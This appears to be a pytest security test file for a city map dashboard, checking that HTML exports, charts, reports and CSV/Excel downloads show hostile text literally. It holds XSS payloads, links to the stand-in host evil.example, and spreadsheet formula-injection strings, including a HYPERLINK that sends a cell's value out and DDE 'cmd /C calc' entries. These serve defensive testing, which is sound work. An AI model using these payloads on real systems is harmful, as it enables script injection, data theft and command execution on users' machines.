"""Data is text wherever it is shown: a name holding markup runs no script in the offline
HTML map, becomes no link in a chart, and a value that looks like a formula stays a value
in CSV and Excel. The hostile values go in through the ETL, as a real source would bring
them; the checks read the exported files and the rendered page."""

from __future__ import annotations

import csv
import io

import pandas as pd
import psycopg
import pytest
from conftest import NYC_ZONE, PASSWORD, DashServer, screenshot
from openpyxl import load_workbook

from etl.load import load

pytestmark = [pytest.mark.db, pytest.mark.browser]

# Each payload marks the page if it ever runs as script.
IMG = "<img src=x onerror=\"document.title='pwned';window.__xss=1\">"
BREAKOUT = "</script><script>window.__xss=2</script>"
LINK = '<a href="http://evil.example/cat">点我分类</a>'
CHANNEL_LINK = '<a href="http://evil.example/ch">点我渠道</a>'
KIND_LINK = '<a href="http://evil.example/kind">点我设施</a>'
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def sql(url: str, query: str, *args):
    with psycopg.connect(url) as conn:
        return conn.execute(query, args).fetchall()


def _rows(path, n: int) -> pd.DataFrame:
    return pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False).head(n)


def _write(frame: pd.DataFrame, path) -> None:
    frame.to_csv(path, index=False, encoding="utf-8-sig", quoting=csv.QUOTE_ALL)


@pytest.fixture(scope="module")
def hostile_db(city, fresh_db, tmp_path_factory):
    """The demo city's admin units, with a few facilities, devices and cases whose texts
    hold markup and formulas, loaded through the ETL."""
    from democity.city import ADMIN_LAYERS

    url = fresh_db()
    folder = tmp_path_factory.mktemp("hostile")
    for level in ADMIN_LAYERS:
        load(url, "admin", [city.admin], city.mapping(f"admin-{level}"), level=level)
    facilities = _rows(city.csv("facilities"), 12)
    facilities.loc[0:3, "name"] = IMG
    facilities.loc[0:3, "address"] = BREAKOUT
    facilities.loc[0:5, "kind"] = KIND_LINK
    facilities.loc[6:6 + len(FORMULAS) - 1, "name"] = list(FORMULAS)
    devices = _rows(city.csv("iot"), 6)
    devices.loc[0:2, "name"] = IMG
    devices.loc[3:5, "kind"] = KIND_LINK
    cases = _rows(city.csv("cases"), 40)
    cases.loc[0:19, "一级分类"] = LINK
    cases.loc[0:19, "渠道"] = CHANNEL_LINK
    cases.loc[0:9, "标题"] = IMG
    for i, value in enumerate(FORMULAS):
        cases.loc[20 + i, ["标题", "地址", "承办单位", "三级分类"]] = value
    for kind, frame in (("facilities", facilities), ("iot", devices), ("cases", cases)):
        _write(frame, folder / f"{kind}.csv")
        report = load(url, kind, [folder / f"{kind}.csv"], city.mapping(kind))
        assert report.rejected == 0, report.by_reason
    return url


@pytest.fixture(scope="module")
def site(hostile_db):
    server = DashServer(hostile_db)
    yield server
    server.stop()


def download(site, path: str) -> bytes:
    return site.open(path, "tester", PASSWORD).read()


# -- 16.1: the offline HTML map -------------------------------------------------------------
@pytest.mark.parametrize("layer", ["facilities", "iot-devices", "cases"])
def test_html_export_shows_markup_as_text(site, hostile_db, page, tmp_path, layer):
    path = tmp_path / f"{layer}.html"
    path.write_bytes(download(site, f"/export/{layer}.html?range=all"))
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(path.as_uri())
    page.wait_for_function("() => Object.keys(window).some(k => /^geo_json_[0-9a-f]+$/.test(k))")
    # Each marker's hover event in turn, then a real mouse hover on the first one.
    shown = page.evaluate("""() => {
        const gj = window[Object.keys(window).find(k => /^geo_json_[0-9a-f]+$/.test(k))];
        return gj.getLayers().map(l => {
            l.fire('mouseover', {latlng: l.getLatLng()}, true);
            const text = gj.getTooltip().getElement().textContent;
            l.fire('mouseout', {latlng: l.getLatLng()}, true);
            return text; }); }""")
    x, y = page.evaluate("""() => {
        const map = window[Object.keys(window).find(k => /^map_[0-9a-f]+$/.test(k))];
        const gj = window[Object.keys(window).find(k => /^geo_json_[0-9a-f]+$/.test(k))];
        const p = map.latLngToContainerPoint(gj.getLayers()[0].getLatLng());
        const r = map.getContainer().getBoundingClientRect();
        return [r.left + p.x, r.top + p.y]; }""")
    page.mouse.move(x, y)
    page.wait_for_selector(".leaflet-tooltip", timeout=5_000)
    page.wait_for_timeout(500)  # an injected image would fail to load and fire by now
    screenshot(page, f"hostile-{layer}-html")
    assert page.evaluate("window.__xss") is None
    assert page.title() != "pwned" and not dialogs
    assert page.locator(".leaflet-tooltip :is(img, script, a)").count() == 0
    expected = sql(hostile_db, {"facilities": "SELECT name FROM facility",
                                "iot-devices": "SELECT name FROM iot_device",
                                "cases": "SELECT category_1 FROM case_event"}[layer])
    hostile = [v for (v,) in expected if v.startswith("<")]
    assert hostile, "the fixture holds markup in this layer"
    assert sum(any(v in text for v in hostile) for text in shown) == len(hostile)


# -- 16.2: charts and legends ---------------------------------------------------------------
def test_charts_and_legend_show_markup_as_text(site, hostile_db, page):
    site.login(page)
    page.goto(site.url + "/?range=all&layers=units,facilities,iot")
    page.wait_for_function(
        "() => document.querySelectorAll('.js-plotly-plot .main-svg').length >= 5 && "
        "[...document.querySelectorAll('.js-plotly-plot')].every(g => g._fullData)",
        timeout=60_000)
    page.wait_for_function("() => document.querySelector('#map-box .legendtext')",
                           timeout=30_000)
    page.wait_for_timeout(1_000)
    screenshot(page, "hostile-charts")
    links = page.evaluate("""() => [...document.querySelectorAll('.js-plotly-plot a')]
        .map(a => a.getAttribute('href') || a.getAttribute('xlink:href') || '')""")
    assert not [href for href in links if "evil.example" in href]
    svg_text = page.evaluate("""() => [...document.querySelectorAll('.js-plotly-plot text')]
        .map(t => t.textContent).join('\\n')""")
    categories = {v for (v,) in sql(hostile_db, "SELECT DISTINCT category_1 FROM case_event")}
    channels = {v for (v,) in sql(hostile_db, "SELECT DISTINCT channel FROM case_event")}
    kinds = {v for (v,) in sql(hostile_db, "SELECT DISTINCT kind FROM facility")}
    assert LINK in categories and CHANNEL_LINK in channels and KIND_LINK in kinds
    assert LINK in svg_text           # the category bar's label, literally
    assert CHANNEL_LINK in svg_text   # the channel donut's label
    assert KIND_LINK in svg_text      # the map legend's facility kind
    assert not page.errors


def test_a_report_shows_markup_as_text(site, hostile_db):
    """A report of cases whose category is a link and whose handling units look like
    formulas: the HTML holds them as text (no element made of them, no link to the other
    site) and the PDF, which fetches nothing, writes the category's characters."""
    import subprocess

    from lxml import html as lxml_html

    first, last = sql(hostile_db, "SELECT min(reported_at AT TIME ZONE 'Asia/Shanghai')::date, "
                                  "max(reported_at AT TIME ZONE 'Asia/Shanghai')::date "
                                  "FROM case_event")[0]
    period = f"{first.isoformat()}..{last.isoformat()}"
    page = download(site, f"/report.html?period={period}").decode("utf-8")
    tree = lxml_html.fromstring(page)
    assert not [a for a in tree.xpath("//a | //img | //script")]
    categories = [td.text_content() for td in tree.xpath('//*[@id="categories"]//tbody/tr/td[1]')]
    assert LINK in categories
    units = [td.text_content() for td in tree.xpath('//*[@id="ranking-table"]//tbody/tr/td[2]')]
    assert set(FORMULAS) & set(units)
    pdf = download(site, f"/report.pdf?period={period}")
    text = subprocess.run(["pdftotext", "-raw", "-", "-"], input=pdf, capture_output=True,
                          check=True).stdout.decode("utf-8")
    assert "点我分类" in text and "evil.example" in text  # written, not followed


# -- 16.3: formulas in CSV and Excel --------------------------------------------------------
def _neutral(value):
    """What OWASP asks a cell to hold: a text value that could start a formula, quoted."""
    if isinstance(value, str) and value.startswith(DANGEROUS):
        return "'" + value
    return value


TEXT_COLUMNS = ("id", "title", "address", "handling_unit", "category_3", "category_1",
                "channel")


def test_csv_and_xlsx_hold_no_formulas(site, hostile_db):
    truth = {r[0]: r for r in sql(hostile_db, f"SELECT {', '.join(TEXT_COLUMNS)} "
                                              "FROM case_event")}
    risky = [v for row in truth.values() for v in row if str(v).startswith(DANGEROUS)]
    assert len(risky) >= 4 * 4  # the loader kept most of the payloads as they were
    body = download(site, "/export/cases.csv?range=all").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == len(truth)
    book = load_workbook(io.BytesIO(download(site, "/export/cases.xlsx?range=all")))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    for cells in sheet.iter_rows(min_row=2):
        assert not [c.value for c in cells if c.data_type == "f"]
    xlsx = {dict(zip(header, (c.value for c in cells), strict=True))["id"]:
            dict(zip(header, (c.value for c in cells), strict=True))
            for cells in sheet.iter_rows(min_row=2)}
    for row in rows:
        stored = truth[row["id"]]
        for column, value in zip(TEXT_COLUMNS, stored, strict=True):
            assert row[column] == _neutral(value), (column, value)
            assert xlsx[row["id"]][column] == _neutral(value), (column, value)
    # Numbers stay numbers: coordinates are numeric cells, not quoted text.
    assert not [r for r in xlsx.values()
                if not (isinstance(r["lon"], float) and isinstance(r["lat"], float))]


def test_negative_numbers_stay_numbers(nyc_db, tmp_path):
    """NYC's longitudes are negative: in CSV and Excel they remain numbers (the cases
    with a point: a file with unplaced cases gives WKT instead of lon/lat)."""
    from layers.catalog import default_catalog
    from layers.exports import export
    from layers.filters import parse_filters
    from layers.scope import resolve_scope
    from onemap.database import make_engine

    engine = make_engine(nyc_db)
    with engine.connect() as conn:
        scope = resolve_scope(conn, None)
        layer = default_catalog().get("cases")
        placed = parse_filters({"bbox": "-180,-90,180,90"})
        export(conn, layer, scope, placed, "csv", tmp_path / "c.csv", zone=NYC_ZONE)
        export(conn, layer, scope, placed, "xlsx", tmp_path / "c.xlsx", zone=NYC_ZONE)
    engine.dispose()
    lons = sorted(r[0] for r in sql(nyc_db, "SELECT ST_X(geom) FROM case_event "
                                            "WHERE geom IS NOT NULL"))
    frame = pd.read_csv(tmp_path / "c.csv", encoding="utf-8-sig")
    assert frame["lon"].dtype == float
    assert sorted(frame["lon"].dropna()) == pytest.approx(lons)
    sheet = load_workbook(tmp_path / "c.xlsx").active
    header = [c.value for c in sheet[1]]
    column = header.index("lon")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" for c in cells if c.value is not None)
    assert sorted(c.value for c in cells if c.value is not None) == pytest.approx(lons)


# -- 16.19: nothing leaves the machine from the modebar -------------------------------------
def test_every_modebar_control_stays_on_this_machine(site, page):
    site.login(page)
    page.goto(site.url + "/?range=all&layers=units,facilities")
    page.wait_for_selector("#map-box .modebar-btn", state="attached", timeout=60_000)
    page.wait_for_timeout(1_500)
    graphs = page.locator(".js-plotly-plot")
    buttons = page.locator(".modebar-btn")
    titles = [buttons.nth(i).get_attribute("data-title") for i in range(buttons.count())]
    assert titles and graphs.count() >= 5
    assert not [t for t in titles if "cloud" in t.lower() or "studio" in t.lower()
                or "share" in t.lower()], titles
    # Any page or tab a control opens, and any request from it, is seen here too.
    popups, requests = [], []
    page.context.on("page", lambda p: popups.append(p))
    page.context.on("request", lambda r: requests.append(r.url))
    for i in range(buttons.count()):
        page.hover("#map-box")
        buttons.nth(i).click(force=True)
        page.wait_for_timeout(400)
    page.wait_for_timeout(1_500)
    screenshot(page, "hostile-modebar")
    local = ("http://127.0.0.1", "data:", "blob:", "about:")
    assert not page.external, page.external
    assert not [u for u in requests if not u.startswith(local)]
    assert not [p.url for p in popups if not p.url.startswith(local)]
